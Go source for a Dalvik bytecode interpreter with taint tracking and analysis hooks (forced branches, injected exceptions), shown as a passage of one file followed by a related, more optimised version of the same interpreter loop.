					f.result = Value{Kind: KindInt}
					f.pc += width
					if f.pc >= len(m.Insns) {
						return Value{Kind: KindInt}, nil
					}
					continue
				}
			}
			return Value{}, err
		}
		if done {
			return v, nil
		}
	}
}

func asThrown(err error, out **ThrownError) bool {
	t, ok := err.(*ThrownError)
	if ok {
		*out = t
	}
	return ok
}

// step executes one decoded instruction. It returns done=true with the
// method result for returns.
func (rt *Runtime) step(st *execState, f *frame, in bytecode.Inst, width int) (Value, bool, error) {
	m := f.method
	regs := f.regs
	// Format-aware bounds check over every register operand (A is a count,
	// not a register, for invoke formats; MapRegisters knows the layout).
	maxReg := int32(-1)
	bytecode.MapRegisters(in, func(r int32) int32 {
		if r > maxReg {
			maxReg = r
		}
		return r
	})
	if int(maxReg) >= len(regs) {
		return Value{}, false, fmt.Errorf("art: %s: register v%d out of range at pc %d",
			m.Key(), maxReg, f.pc)
	}
	next := func() { f.pc += width }

	switch in.Op {
	case bytecode.OpNop:
		next()

	case bytecode.OpMove, bytecode.OpMoveFrom16,
		bytecode.OpMoveObject, bytecode.OpMoveObject16:
		regs[in.A] = regs[in.B]
		next()

	case bytecode.OpMoveResult, bytecode.OpMoveResultObj:
		regs[in.A] = f.result
		f.hasRes = false
		next()

	case bytecode.OpMoveException:
		if f.pending == nil {
			regs[in.A] = NullVal()
		} else {
			regs[in.A] = RefVal(f.pending)
		}
		f.pending = nil
		next()

	case bytecode.OpReturnVoid:
		return Value{Kind: KindInt}, true, nil
	case bytecode.OpReturn, bytecode.OpReturnObject:
		return regs[in.A], true, nil

	case bytecode.OpConst4, bytecode.OpConst16, bytecode.OpConst,
		bytecode.OpConstHigh16:
		regs[in.A] = IntVal(in.Lit)
		next()

	case bytecode.OpConstString:
		regs[in.A] = RefVal(rt.NewString(m.Class.File.String(in.Index)))
		next()

	case bytecode.OpConstClass:
		desc := m.Class.File.TypeName(in.Index)
		cls, err := rt.FindClass(desc)
		if err != nil {
			return Value{}, false, rt.Throw("Ljava/lang/ClassNotFoundException;", desc)
		}
		regs[in.A] = RefVal(rt.classObject(cls))
		next()

	case bytecode.OpCheckCast:
		if err := rt.checkCast(regs[in.A], m.Class.File.TypeName(in.Index)); err != nil {
			return Value{}, false, err
		}
		next()

	case bytecode.OpInstanceOf:
		regs[in.A] = BoolVal(rt.instanceOf(regs[in.B], m.Class.File.TypeName(in.Index)))
		next()

	case bytecode.OpArrayLength:
		arr := regs[in.B]
		if arr.IsNull() {
			return Value{}, false, rt.Throw("Ljava/lang/NullPointerException;", "array-length on null")
		}
		regs[in.A] = IntVal(int64(len(arr.Ref.Elems))).WithTaint(arr.Taint)
		next()

	case bytecode.OpNewInstance:
		desc := m.Class.File.TypeName(in.Index)
		cls, err := rt.FindClass(desc)
		if err != nil {
			return Value{}, false, rt.Throw("Ljava/lang/ClassNotFoundException;", desc)
		}
		if err := rt.ensureInitialized(st, cls); err != nil {
			return Value{}, false, err
		}
		regs[in.A] = RefVal(rt.NewInstance(cls))
		next()

	case bytecode.OpNewArray:
		n := regs[in.B].Int
		if n < 0 {
			return Value{}, false, rt.Throw("Ljava/lang/RuntimeException;", "negative array size")
		}
		arr, err := rt.NewArray(m.Class.File.TypeName(in.Index), int(n))
		if err != nil {
			return Value{}, false, err
		}
		regs[in.A] = RefVal(arr)
		next()

	case bytecode.OpThrow:
		if regs[in.A].IsNull() {
			return Value{}, false, rt.Throw("Ljava/lang/NullPointerException;", "throw null")
		}
		return Value{}, false, &ThrownError{Obj: regs[in.A].Ref}

	case bytecode.OpGoto, bytecode.OpGoto16, bytecode.OpGoto32:
		f.pc += int(in.Off)

	case bytecode.OpPackedSwitch, bytecode.OpSparseSwitch:
		key := int32(regs[in.A].Int)
		target := width // fall through past the 31t instruction
		for i, k := range in.Keys {
			if k == key {
				target = int(in.Targets[i])
				break
			}
		}
		f.pc += target

	case bytecode.OpIfEq, bytecode.OpIfNe, bytecode.OpIfLt,
		bytecode.OpIfGe, bytecode.OpIfGt, bytecode.OpIfLe:
		taken := evalBranch(in.Op, regs[in.A], regs[in.B])
		taken = rt.branchHook(m, f.pc, in, taken)
		if taken {
			f.pc += int(in.Off)
		} else {
			next()
		}

	case bytecode.OpIfEqz, bytecode.OpIfNez, bytecode.OpIfLtz,
		bytecode.OpIfGez, bytecode.OpIfGtz, bytecode.OpIfLez:
		// The z-form opcodes mirror the two-register forms shifted by 6.
		taken := evalBranch(in.Op-6, regs[in.A], IntVal(0))
		taken = rt.branchHook(m, f.pc, in, taken)
		if taken {
			f.pc += int(in.Off)
		} else {
			next()
		}

	case bytecode.OpAGet, bytecode.OpAGetObject:
		v, err := rt.arrayGet(regs[in.B], regs[in.C])
		if err != nil {
			return Value{}, false, err
		}
		regs[in.A] = v
		next()

	case bytecode.OpAPut, bytecode.OpAPutObject:
		if err := rt.arrayPut(regs[in.B], regs[in.C], regs[in.A]); err != nil {
			return Value{}, false, err
		}
		next()

	case bytecode.OpIGet, bytecode.OpIGetObject, bytecode.OpIGetBoolean:
		obj := regs[in.B]
		if obj.IsNull() {
			return Value{}, false, rt.Throw("Ljava/lang/NullPointerException;",
				"iget on null in "+m.Key())
		}
		ref := m.Class.File.FieldAt(in.Index)
		regs[in.A] = obj.Ref.Field(ref.Name)
		next()

	case bytecode.OpIPut, bytecode.OpIPutObject, bytecode.OpIPutBoolean:
		obj := regs[in.B]
		if obj.IsNull() {
			return Value{}, false, rt.Throw("Ljava/lang/NullPointerException;",
				"iput on null in "+m.Key())
		}
		ref := m.Class.File.FieldAt(in.Index)
		obj.Ref.SetField(ref.Name, regs[in.A])
		next()

	case bytecode.OpSGet, bytecode.OpSGetObject, bytecode.OpSGetBoolean:
		v, err := rt.staticGet(st, m, in.Index)
		if err != nil {
			return Value{}, false, err
		}
		regs[in.A] = v
		next()

	case bytecode.OpSPut, bytecode.OpSPutObject, bytecode.OpSPutBoolean:
		if err := rt.staticPut(st, m, in.Index, regs[in.A]); err != nil {
			return Value{}, false, err
		}
		next()

	case bytecode.OpInvokeVirtual, bytecode.OpInvokeSuper, bytecode.OpInvokeDirect,
		bytecode.OpInvokeStatic, bytecode.OpInvokeInterface,
		bytecode.OpInvokeVirtualR, bytecode.OpInvokeSuperR, bytecode.OpInvokeDirectR,
		bytecode.OpInvokeStaticR, bytecode.OpInvokeInterR:
		if err := rt.doInvoke(st, f, in); err != nil {
			return Value{}, false, err
		}
		next()

	case bytecode.OpNegInt:
		regs[in.A] = IntVal(int64(-int32(regs[in.B].Int))).WithTaint(regs[in.B].Taint)
		next()
	case bytecode.OpNotInt:
		regs[in.A] = IntVal(int64(^int32(regs[in.B].Int))).WithTaint(regs[in.B].Taint)
		next()

	case bytecode.OpAddInt, bytecode.OpSubInt, bytecode.OpMulInt,
		bytecode.OpDivInt, bytecode.OpRemInt, bytecode.OpAndInt,
		bytecode.OpOrInt, bytecode.OpXorInt, bytecode.OpShlInt,
		bytecode.OpShrInt, bytecode.OpUshrInt:
		r, err := rt.binop(in.Op, regs[in.B], regs[in.C])
		if err != nil {
			return Value{}, false, err
		}
		regs[in.A] = r
		next()

	case bytecode.OpAddIntLit16:
		r, err := rt.binop(bytecode.OpAddInt, regs[in.B], IntVal(in.Lit))
		if err != nil {
			return Value{}, false, err
		}
		regs[in.A] = r
		next()

	case bytecode.OpAddIntLit8, bytecode.OpMulIntLit8, bytecode.OpDivIntLit8,
		bytecode.OpRemIntLit8, bytecode.OpAndIntLit8, bytecode.OpOrIntLit8,
		bytecode.OpXorIntLit8, bytecode.OpShlIntLit8, bytecode.OpShrIntLit8:
		r, err := rt.binop(lit8Base(in.Op), regs[in.B], IntVal(in.Lit))
		if err != nil {
			return Value{}, false, err
		}
		regs[in.A] = r
		next()

	case bytecode.OpRsubIntLit8:
		r, err := rt.binop(bytecode.OpSubInt, IntVal(in.Lit), regs[in.B])
		if err != nil {
			return Value{}, false, err
		}
		regs[in.A] = r
		next()

	default:
		return Value{}, false, fmt.Errorf("art: %s: unimplemented opcode %s", m.Key(), in.Op)
	}
	return Value{}, false, nil
}

func lit8Base(op bytecode.Opcode) bytecode.Opcode {
	switch op {
	case bytecode.OpAddIntLit8:
		return bytecode.OpAddInt
	case bytecode.OpMulIntLit8:
		return bytecode.OpMulInt
	case bytecode.OpDivIntLit8:
		return bytecode.OpDivInt
	case bytecode.OpRemIntLit8:
		return bytecode.OpRemInt
	case bytecode.OpAndIntLit8:
		return bytecode.OpAndInt
	case bytecode.OpOrIntLit8:
		return bytecode.OpOrInt
	case bytecode.OpXorIntLit8:
		return bytecode.OpXorInt
	case bytecode.OpShlIntLit8:
		return bytecode.OpShlInt
	case bytecode.OpShrIntLit8:
		return bytecode.OpShrInt
	default:
		return op
	}
}

func (rt *Runtime) branchHook(m *Method, pc int, in bytecode.Inst, taken bool) bool {
	for _, h := range rt.hooks {
		if h.Branch == nil {
			continue
		}
		if override, forced := h.Branch(m, pc, in, taken); override {
			taken = forced
		}
	}
	return taken
}

// evalBranch evaluates an if-test over two register values. References
// compare by identity (a null reference also compares equal to integer 0,
// matching the verifier-tolerated null-check idiom).
func evalBranch(op bytecode.Opcode, a, b Value) bool {
	if a.Kind == KindRef || b.Kind == KindRef {
		eq := refEqual(a, b)
		switch op {
		case bytecode.OpIfEq:
			return eq
		case bytecode.OpIfNe:
			return !eq
		default:
			return false // ordered comparison on references is undefined
		}
	}
	return compare(op, a.Int, b.Int)
}

func refEqual(a, b Value) bool {
	if a.IsNull() || b.IsNull() {
		return a.IsNull() && b.IsNull()
	}
	return a.Kind == KindRef && b.Kind == KindRef && a.Ref == b.Ref
}

func compare(op bytecode.Opcode, a, b int64) bool {
	switch op {
	case bytecode.OpIfEq:
		return a == b
	case bytecode.OpIfNe:
		return a != b
	case bytecode.OpIfLt:
		return a < b
	case bytecode.OpIfGe:
		return a >= b
	case bytecode.OpIfGt:
		return a > b
	case bytecode.OpIfLe:
		return a <= b
	default:
		return false
	}
}

func (rt *Runtime) binop(op bytecode.Opcode, a, b Value) (Value, error) {
	x, y := int32(a.Int), int32(b.Int)
	var r int32
	switch op {
	case bytecode.OpAddInt:
		r = x + y
	case bytecode.OpSubInt:
		r = x - y
	case bytecode.OpMulInt:
		r = x * y
	case bytecode.OpDivInt, bytecode.OpRemInt:
		if y == 0 {
			return Value{}, rt.Throw("Ljava/lang/ArithmeticException;", "divide by zero")
		}
		if op == bytecode.OpDivInt {
			r = x / y
		} else {
			r = x % y
		}
	case bytecode.OpAndInt:
		r = x & y
	case bytecode.OpOrInt:
		r = x | y
	case bytecode.OpXorInt:
		r = x ^ y
	case bytecode.OpShlInt:
		r = x << (uint32(y) & 31)
	case bytecode.OpShrInt:
		r = x >> (uint32(y) & 31)
	case bytecode.OpUshrInt:
		r = int32(uint32(x) >> (uint32(y) & 31))
	default:
		return Value{}, fmt.Errorf("art: bad binop %s", op)
	}
	return IntVal(int64(r)).WithTaint(a.Taint | b.Taint), nil
}

func (rt *Runtime) arrayGet(arr, idx Value) (Value, error) {
	if arr.IsNull() {
		return Value{}, rt.Throw("Ljava/lang/NullPointerException;", "aget on null")
	}
	i := idx.Int
	if i < 0 || int(i) >= len(arr.Ref.Elems) {
		return Value{}, rt.Throw("Ljava/lang/ArrayIndexOutOfBoundsException;",
			fmt.Sprintf("index %d length %d", i, len(arr.Ref.Elems)))
	}
	v := arr.Ref.Elems[i]
	v.Taint |= arr.Taint | arr.Ref.Taint
	return v, nil
}

func (rt *Runtime) arrayPut(arr, idx, val Value) error {
	if arr.IsNull() {
		return rt.Throw("Ljava/lang/NullPointerException;", "aput on null")
	}
	i := idx.Int
	if i < 0 || int(i) >= len(arr.Ref.Elems) {
		return rt.Throw("Ljava/lang/ArrayIndexOutOfBoundsException;",
			fmt.Sprintf("index %d length %d", i, len(arr.Ref.Elems)))
	}
	arr.Ref.Elems[i] = val
	return nil
}

func (rt *Runtime) staticGet(st *execState, m *Method, fieldIdx uint32) (Value, error) {
	ref := m.Class.File.FieldAt(fieldIdx)
	c, err := rt.FindClass(ref.Class)
	if err != nil {
		return Value{}, rt.Throw("Ljava/lang/ClassNotFoundException;", ref.Class)
	}
	if err := rt.ensureInitialized(st, c); err != nil {
		return Value{}, err
	}
	for k := c; k != nil; k = k.Super {
		if v, ok := k.Statics[ref.Name]; ok {
			return v, nil
		}
	}
	return Value{}, rt.Throw("Ljava/lang/RuntimeException;", "no such static field "+ref.Key())
}

func (rt *Runtime) staticPut(st *execState, m *Method, fieldIdx uint32, v Value) error {
	ref := m.Class.File.FieldAt(fieldIdx)
	c, err := rt.FindClass(ref.Class)
	if err != nil {
		return rt.Throw("Ljava/lang/ClassNotFoundException;", ref.Class)
	}
	if err := rt.ensureInitialized(st, c); err != nil {
		return err
	}
	for k := c; k != nil; k = k.Super {
		if _, ok := k.Statics[ref.Name]; ok {
			k.Statics[ref.Name] = v
			return nil
		}
	}
	c.Statics[ref.Name] = v
	return nil
}

func (rt *Runtime) checkCast(v Value, desc string) error {
	if v.IsNull() {
		return nil
	}
	if !rt.instanceOf(v, desc) {
		return rt.Throw("Ljava/lang/ClassCastException;",
			v.Ref.Class.Descriptor+" cannot be cast to "+desc)
	}
	return nil
}

func (rt *Runtime) instanceOf(v Value, desc string) bool {
	if v.Kind != KindRef || v.Ref == nil {
		return false
	}
	if desc == "Ljava/lang/Object;" {
		return true
	}
	target, err := rt.FindClass(desc)
	if err != nil {
		return false
	}
	return v.Ref.Class.IsSubclassOf(target)
}

func (rt *Runtime) doInvoke(st *execState, f *frame, in bytecode.Inst) error {
	m := f.method
	ref := m.Class.File.MethodAt(in.Index)
	instance := in.Op != bytecode.OpInvokeStatic && in.Op != bytecode.OpInvokeStaticR

	var recv *Object
	argRegs := in.Args
	if instance {
		if len(argRegs) == 0 {
			return fmt.Errorf("art: %s: instance invoke without receiver", m.Key())
		}
		rv := f.regs[argRegs[0]]
		if rv.IsNull() {
			return rt.Throw("Ljava/lang/NullPointerException;",
				"invoke "+ref.Key()+" on null in "+m.Key())
		}
		recv = rv.Ref
		argRegs = argRegs[1:]
	}
	args := make([]Value, len(argRegs))
	for i, r := range argRegs {
		if int(r) >= len(f.regs) {
			return fmt.Errorf("art: %s: arg register v%d out of range", m.Key(), r)
		}
		args[i] = f.regs[r]
	}

	var target *Method
	switch in.Op {
	case bytecode.OpInvokeVirtual, bytecode.OpInvokeInterface,
		bytecode.OpInvokeVirtualR, bytecode.OpInvokeInterR:
		target = recv.Class.FindMethod(ref.Name, ref.Signature)
	case bytecode.OpInvokeSuper, bytecode.OpInvokeSuperR:
		if m.Class.Super != nil {
			target = m.Class.Super.FindMethod(ref.Name, ref.Signature)
		}
	default: // direct, static
		c, err := rt.FindClass(ref.Class)
		if err != nil {
			return rt.Throw("Ljava/lang/ClassNotFoundException;", ref.Class)
		}
		if err := rt.ensureInitialized(st, c); err != nil {
			return err
		}
		target = c.FindMethod(ref.Name, ref.Signature)
	}
	if target == nil {
		return rt.Throw("Ljava/lang/NoSuchMethodException;", ref.Key())
	}
	res, err := rt.invoke(st, target, recv, args)
	if err != nil {
		return err
	}
	f.result = res
	f.hasRes = true
	return nil
}
