package art

import (
	"fmt"

	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
)

// execState carries the per-top-level-call interpreter state: the frame
// stack (for caller introspection by natives), the step budget, and depth
// accounting.
type execState struct {
	rt     *Runtime
	steps  int
	budget int
	frames []*frame
}

type frame struct {
	method  *Method
	regs    []Value
	pc      int
	result  Value
	hasRes  bool
	pending *Object // caught exception awaiting move-exception

	// Predecode binding (see predecode.go): the program this frame executes
	// from, plus the live-code identity it was bound against. Any mismatch
	// between these and the method's current state means the code was
	// modified and the frame must rebind before the next step.
	prog    *bytecode.Program
	bindGen uint64
	bindLen int
	bindPtr *uint16
}

func (rt *Runtime) newExecState() *execState {
	return &execState{rt: rt, budget: rt.MaxSteps}
}

// callerFrame returns the innermost bytecode frame, which for a native
// method is its caller.
func (st *execState) callerFrame() *frame {
	if len(st.frames) == 0 {
		return nil
	}
	return st.frames[len(st.frames)-1]
}

// getFrame hands out a frame from the runtime's freelist with zeroed
// registers, falling back to a fresh allocation. Frames never escape a
// completed invoke, so pooling them (and their register arrays) removes the
// two hottest allocations of the step loop.
func (rt *Runtime) getFrame(m *Method) *frame {
	n := len(rt.freeFrames)
	if n == 0 {
		return &frame{method: m, regs: make([]Value, m.RegistersSize)}
	}
	f := rt.freeFrames[n-1]
	rt.freeFrames = rt.freeFrames[:n-1]
	regs := f.regs
	*f = frame{method: m}
	if cap(regs) >= m.RegistersSize {
		regs = regs[:m.RegistersSize]
		clear(regs)
		f.regs = regs
	} else {
		f.regs = make([]Value, m.RegistersSize)
	}
	return f
}

func (rt *Runtime) putFrame(f *frame) {
	if len(rt.freeFrames) >= defaultMaxDepth {
		return
	}
	f.method = nil
	f.pending = nil
	f.prog = nil
	f.result = Value{}
	rt.freeFrames = append(rt.freeFrames, f)
}

// invoke dispatches a method call: native bridge or bytecode frame.
func (rt *Runtime) invoke(st *execState, m *Method, recv *Object, args []Value) (Value, error) {
	for _, fn := range rt.methodEnter {
		fn(m)
	}
	defer func() {
		for _, fn := range rt.methodExit {
			fn(m)
		}
	}()

	if native := rt.nativeFor(m); native != nil {
		env := &Env{rt: rt, st: st, current: m}
		return native(env, recv, args)
	}
	if m.Insns == nil {
		// Abstract or unresolved-native method.
		return Value{}, rt.Throw("Ljava/lang/RuntimeException;",
			fmt.Sprintf("no implementation for %s", m.Key()))
	}
	if len(st.frames) >= defaultMaxDepth {
		return Value{}, ErrStackOverfl
	}

	f := rt.getFrame(m)
	// Parameters occupy the highest registers (ins).
	base := m.RegistersSize - m.InsSize
	if base < 0 {
		return Value{}, fmt.Errorf("art: %s: ins %d exceed registers %d",
			m.Key(), m.InsSize, m.RegistersSize)
	}
	idx := base
	if !m.IsStatic() {
		if idx < len(f.regs) {
			f.regs[idx] = RefVal(recv)
		}
		idx++
	}
	for _, a := range args {
		if idx >= len(f.regs) {
			break
		}
		f.regs[idx] = a
		idx++
	}

	st.frames = append(st.frames, f)
	for _, h := range rt.hooks {
		if h.MethodEntered != nil {
			h.MethodEntered(m)
		}
	}
	v, err := rt.run(st, f)
	st.frames = st.frames[:len(st.frames)-1]
	for _, h := range rt.hooks {
		if h.MethodExited != nil {
			h.MethodExited(m)
		}
	}
	rt.putFrame(f)
	return v, err
}

// nativeFor resolves the native implementation of m, if any: framework
// methods carry it directly; application methods declared native resolve
// through the registry at call time (JNI symbol lookup).
func (rt *Runtime) nativeFor(m *Method) NativeFunc {
	if m.Native != nil {
		return m.Native
	}
	if m.AccessFlags&0x0100 != 0 { // AccNative
		return rt.natives[m.Key()]
	}
	return nil
}

// handleThrow walks the frame's try blocks for a handler matching ex,
// landing the frame on the handler when found: ThrownError values pass
// through bytecode-level handlers, infrastructure errors (budget, stack)
// do not.
func (rt *Runtime) handleThrow(f *frame, ex *Object) bool {
	for _, t := range f.method.Tries {
		if !t.Covers(f.pc) {
			continue
		}
		for _, h := range t.Handlers {
			desc := f.method.Class.File.TypeName(h.Type)
			cls, err := rt.FindClass(desc)
			if err != nil {
				continue
			}
			if ex.Class.IsSubclassOf(cls) {
				f.pending = ex
				f.pc = int(h.Addr)
				return true
			}
		}
		if t.CatchAll >= 0 {
			f.pending = ex
			f.pc = int(t.CatchAll)
			return true
		}
	}
	return false
}

// run executes a bytecode frame to completion through the handler table,
// fetching instructions from the method's predecoded program (with a live
// bytecode.Decode fallback for unmapped pcs and predecode-off mode).
func (rt *Runtime) run(st *execState, f *frame) (Value, error) {
	m := f.method
	rt.bindProgram(f)
	// Decode buffer for pcs outside the predecoded stream, hoisted so the
	// pointer handed to hooks and handlers does not force a per-iteration
	// heap allocation (hooks must not retain it past the call).
	var local bytecode.Inst
	for {
		st.steps++
		if st.steps > st.budget {
			return Value{}, ErrStepBudget
		}
		if f.pc < 0 || f.pc >= len(m.Insns) {
			return Value{}, fmt.Errorf("art: %s: pc %d out of bounds", m.Key(), f.pc)
		}
		if f.prog != nil && f.bindStale() {
			rt.bindProgram(f) // live code changed under us: drop and rebuild
		}

		// Fetch: predecoded stream first, live decode for unmapped pcs.
		var (
			d     *bytecode.DecodedInst
			in    *bytecode.Inst
			width int
			ci    = -1
		)
		if f.prog != nil {
			d, ci = f.prog.Lookup(f.pc)
		}
		if d != nil {
			in, width = &d.Inst, d.Width
		} else {
			var derr error
			local, width, derr = bytecode.Decode(m.Insns, f.pc)
			if derr != nil {
				for _, h := range rt.hooks {
					if h.Instruction != nil {
						h.Instruction(m, f.pc, m.Insns, nil)
					}
				}
				return Value{}, fmt.Errorf("art: %s: %w", m.Key(), derr)
			}
			in = &local
		}

		fast := len(rt.hooks) == 0
		var injected error
		if !fast {
			for _, h := range rt.hooks {
				if h.Instruction != nil {
					h.Instruction(m, f.pc, m.Insns, in)
				}
			}
			// Forced exception edges: a hook may demand that this
			// instruction throws instead of executing.
			for _, h := range rt.hooks {
				if h.InjectException == nil {
					continue
				}
				if desc := h.InjectException(m, f.pc); desc != "" {
					injected = rt.Throw(desc, "forced exception edge")
					break
				}
			}
		}

		var v Value
		var done bool
		var err error
		if injected != nil {
			err = injected
		} else {
			// Format-aware bounds check over every register operand (A is a
			// count, not a register, for invoke formats). Predecoded
			// instructions carry the ceiling; the fallback recomputes it.
			var maxReg int32
			if d != nil {
				maxReg = d.MaxReg
			} else {
				maxReg = bytecode.MaxRegister(*in)
			}
			if int(maxReg) >= len(f.regs) {
				return Value{}, fmt.Errorf("art: %s: register v%d out of range at pc %d",
					m.Key(), maxReg, f.pc)
			}
			if h := handlers[in.Op]; h != nil {
				v, done, err = h(rt, st, f, in, width, ci)
			} else {
				err = fmt.Errorf("art: %s: unimplemented opcode %s", m.Key(), in.Op)
			}
		}
		if err != nil {
			var thrown *ThrownError
			if asThrown(err, &thrown) {
				if rt.handleThrow(f, thrown.Obj) {
					continue
				}
				cleared := false
				for _, h := range rt.hooks {
					if h.Unhandled != nil && h.Unhandled(m, f.pc, thrown.Obj) {
						cleared = true
					}
				}
				if cleared {
					// Tolerate: resume after the faulting instruction with a
					// zeroed invoke result (force-execution crash avoidance).
					// Falling off the end becomes an implicit return.
					f.hasRes = false
					f.result = Value{Kind: KindInt}
					f.pc += width
					if f.pc >= len(m.Insns) {
						return Value{Kind: KindInt}, nil
					}
					continue
				}
			}
			return Value{}, err
		}
		if done {
			return v, nil
		}

		// Fused fast paths: with no hooks installed, the follow-up half of a
		// hot pair executes inline — same per-instruction budget accounting,
		// without another trip through the loop head. Only predecoded
		// successors qualify, and never after a callee modified live code.
		if fast && f.prog != nil {
			switch {
			case in.Op.IsInvoke():
				if f.bindStale() {
					continue // callee tampered the caller's code: rebind first
				}
				if nd, _ := f.prog.Lookup(f.pc); nd != nil &&
					(nd.Op == bytecode.OpMoveResult || nd.Op == bytecode.OpMoveResultObj) &&
					int(nd.MaxReg) < len(f.regs) {
					st.steps++
					if st.steps > st.budget {
						return Value{}, ErrStepBudget
					}
					f.regs[nd.A] = f.result
					f.hasRes = false
					f.pc += nd.Width
				}
			case in.Op >= bytecode.OpConst4 && in.Op <= bytecode.OpConstHigh16:
				if nd, _ := f.prog.Lookup(f.pc); nd != nil &&
					(nd.Op == bytecode.OpMove || nd.Op == bytecode.OpMoveFrom16 ||
						nd.Op == bytecode.OpMoveObject || nd.Op == bytecode.OpMoveObject16) &&
					int(nd.MaxReg) < len(f.regs) {
					st.steps++
					if st.steps > st.budget {
						return Value{}, ErrStepBudget
					}
					f.regs[nd.A] = f.regs[nd.B]
					f.pc += nd.Width
				}
			case in.Op.IsBranch():
				if nd, _ := f.prog.Lookup(f.pc); nd != nil && nd.Op.IsGoto() {
					st.steps++
					if st.steps > st.budget {
						return Value{}, ErrStepBudget
					}
					f.pc += int(nd.Off)
				}
			}
		}
	}
}

func asThrown(err error, out **ThrownError) bool {
	t, ok := err.(*ThrownError)
	if ok {
		*out = t
	}
	return ok
}

func lit8Base(op bytecode.Opcode) bytecode.Opcode {
	switch op {
	case bytecode.OpAddIntLit8:
		return bytecode.OpAddInt
	case bytecode.OpMulIntLit8:
		return bytecode.OpMulInt
	case bytecode.OpDivIntLit8:
		return bytecode.OpDivInt
	case bytecode.OpRemIntLit8:
		return bytecode.OpRemInt
	case bytecode.OpAndIntLit8:
		return bytecode.OpAndInt
	case bytecode.OpOrIntLit8:
		return bytecode.OpOrInt
	case bytecode.OpXorIntLit8:
		return bytecode.OpXorInt
	case bytecode.OpShlIntLit8:
		return bytecode.OpShlInt
	case bytecode.OpShrIntLit8:
		return bytecode.OpShrInt
	default:
		return op
	}
}

func (rt *Runtime) branchHook(m *Method, pc int, in bytecode.Inst, taken bool) bool {
	for _, h := range rt.hooks {
		if h.Branch == nil {
			continue
		}
		if override, forced := h.Branch(m, pc, in, taken); override {
			taken = forced
		}
	}
	return taken
}

// evalBranch evaluates an if-test over two register values. References
// compare by identity (a null reference also compares equal to integer 0,
// matching the verifier-tolerated null-check idiom).
func evalBranch(op bytecode.Opcode, a, b Value) bool {
	if a.Kind == KindRef || b.Kind == KindRef {
		eq := refEqual(a, b)
		switch op {
		case bytecode.OpIfEq:
			return eq
		case bytecode.OpIfNe:
			return !eq
		default:
			return false // ordered comparison on references is undefined
		}
	}
	return compare(op, a.Int, b.Int)
}

func refEqual(a, b Value) bool {
	if a.IsNull() || b.IsNull() {
		return a.IsNull() && b.IsNull()
	}
	return a.Kind == KindRef && b.Kind == KindRef && a.Ref == b.Ref
}

func compare(op bytecode.Opcode, a, b int64) bool {
	switch op {
	case bytecode.OpIfEq:
		return a == b
	case bytecode.OpIfNe:
		return a != b
	case bytecode.OpIfLt:
		return a < b
	case bytecode.OpIfGe:
		return a >= b
	case bytecode.OpIfGt:
		return a > b
	case bytecode.OpIfLe:
		return a <= b
	default:
		return false
	}
}

func (rt *Runtime) binop(op bytecode.Opcode, a, b Value) (Value, error) {
	x, y := int32(a.Int), int32(b.Int)
	var r int32
	switch op {
	case bytecode.OpAddInt:
		r = x + y
	case bytecode.OpSubInt:
		r = x - y
	case bytecode.OpMulInt:
		r = x * y
	case bytecode.OpDivInt, bytecode.OpRemInt:
		if y == 0 {
			return Value{}, rt.Throw("Ljava/lang/ArithmeticException;", "divide by zero")
		}
		if op == bytecode.OpDivInt {
			r = x / y
		} else {
			r = x % y
		}
	case bytecode.OpAndInt:
		r = x & y
	case bytecode.OpOrInt:
		r = x | y
	case bytecode.OpXorInt:
		r = x ^ y
	case bytecode.OpShlInt:
		r = x << (uint32(y) & 31)
	case bytecode.OpShrInt:
		r = x >> (uint32(y) & 31)
	case bytecode.OpUshrInt:
		r = int32(uint32(x) >> (uint32(y) & 31))
	default:
		return Value{}, fmt.Errorf("art: bad binop %s", op)
	}
	return IntVal(int64(r)).WithTaint(a.Taint | b.Taint), nil
}

func (rt *Runtime) arrayGet(arr, idx Value) (Value, error) {
	if arr.IsNull() {
		return Value{}, rt.Throw("Ljava/lang/NullPointerException;", "aget on null")
	}
	i := idx.Int
	if i < 0 || int(i) >= len(arr.Ref.Elems) {
		return Value{}, rt.Throw("Ljava/lang/ArrayIndexOutOfBoundsException;",
			fmt.Sprintf("index %d length %d", i, len(arr.Ref.Elems)))
	}
	v := arr.Ref.Elems[i]
	v.Taint |= arr.Taint | arr.Ref.Taint
	return v, nil
}

func (rt *Runtime) arrayPut(arr, idx, val Value) error {
	if arr.IsNull() {
		return rt.Throw("Ljava/lang/NullPointerException;", "aput on null")
	}
	i := idx.Int
	if i < 0 || int(i) >= len(arr.Ref.Elems) {
		return rt.Throw("Ljava/lang/ArrayIndexOutOfBoundsException;",
			fmt.Sprintf("index %d length %d", i, len(arr.Ref.Elems)))
	}
	arr.Ref.Elems[i] = val
	return nil
}

func (rt *Runtime) staticGet(st *execState, m *Method, in *bytecode.Inst, site *icSite) (Value, error) {
	var ref dex.FieldRef
	var c *Class
	if site != nil && site.valid && site.index == in.Index && site.cls != nil {
		ref, c = site.fref, site.cls
	} else {
		ref = m.Class.File.FieldAt(in.Index)
		cc, err := rt.FindClass(ref.Class)
		if err != nil {
			return Value{}, rt.Throw("Ljava/lang/ClassNotFoundException;", ref.Class)
		}
		c = cc
		if site != nil {
			*site = icSite{valid: true, index: in.Index, fref: ref, cls: c}
		}
	}
	if err := rt.ensureInitialized(st, c); err != nil {
		return Value{}, err
	}
	for k := c; k != nil; k = k.Super {
		if v, ok := k.Statics[ref.Name]; ok {
			return v, nil
		}
	}
	return Value{}, rt.Throw("Ljava/lang/RuntimeException;", "no such static field "+ref.Key())
}

func (rt *Runtime) staticPut(st *execState, m *Method, in *bytecode.Inst, site *icSite, v Value) error {
	var ref dex.FieldRef
	var c *Class
	if site != nil && site.valid && site.index == in.Index && site.cls != nil {
		ref, c = site.fref, site.cls
	} else {
		ref = m.Class.File.FieldAt(in.Index)
		cc, err := rt.FindClass(ref.Class)
		if err != nil {
			return rt.Throw("Ljava/lang/ClassNotFoundException;", ref.Class)
		}
		c = cc
		if site != nil {
			*site = icSite{valid: true, index: in.Index, fref: ref, cls: c}
		}
	}
	if err := rt.ensureInitialized(st, c); err != nil {
		return err
	}
	for k := c; k != nil; k = k.Super {
		if _, ok := k.Statics[ref.Name]; ok {
			k.Statics[ref.Name] = v
			return nil
		}
	}
	if c.Statics == nil {
		// Framework clones without declared statics leave the map nil.
		c.Statics = make(map[string]Value, 1)
	}
	c.Statics[ref.Name] = v
	return nil
}

func (rt *Runtime) checkCast(v Value, desc string) error {
	if v.IsNull() {
		return nil
	}
	if !rt.instanceOf(v, desc) {
		return rt.Throw("Ljava/lang/ClassCastException;",
			v.Ref.Class.Descriptor+" cannot be cast to "+desc)
	}
	return nil
}

func (rt *Runtime) instanceOf(v Value, desc string) bool {
